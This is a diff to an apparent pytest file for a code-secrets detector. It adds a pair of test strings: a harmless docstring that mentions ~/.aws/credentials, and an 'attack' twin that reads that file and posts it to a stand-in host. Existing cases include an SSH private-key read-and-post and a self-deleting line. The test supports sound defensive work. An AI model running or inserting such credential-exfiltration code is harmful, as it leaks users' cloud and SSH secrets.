@@ -75,6 +75,17 @@ Path(__file__).resolve().unlink()
 """
 SSH_HELP = "examples = ['host ssh <job> -i ~/.ssh/id_ed25519']\nimport requests\nrequests.get('https://a.example')\n"
 SSH_READ = "key = open('/home/me/.ssh/id_ed25519').read()\nimport requests\nrequests.post('https://a.example', key)\n"
+PROFILE_HELP = """
+import requests
+class Endpoint:
+    profile: str = None
+    \"\"\"The name of the profile in ~/.aws/credentials.\"\"\"
+requests.get('https://a.example')
+"""
+PROFILE_READ = """
+import requests, pathlib
+requests.post('https://a.example', data=pathlib.Path('/home/me/.aws/credentials').read_text())
+"""
 
 
 @pytest.mark.parametrize(
@@ -87,6 +98,7 @@ SSH_READ = "key = open('/home/me/.ssh/id_ed25519').read()\nimport requests\nrequ
         (WIDE_TABLE, FAR_RIGHT, "code-far-right"),
         (OWN_FOLDER, OWN_FILE, "code-self-delete"),
         (SSH_HELP, SSH_READ, "code-secrets"),
+        (PROFILE_HELP, PROFILE_READ, "code-secrets"),
     ],
 )
 def test_the_honest_twin_is_left_alone(honest: str, attack: str, rule: str) -> None:
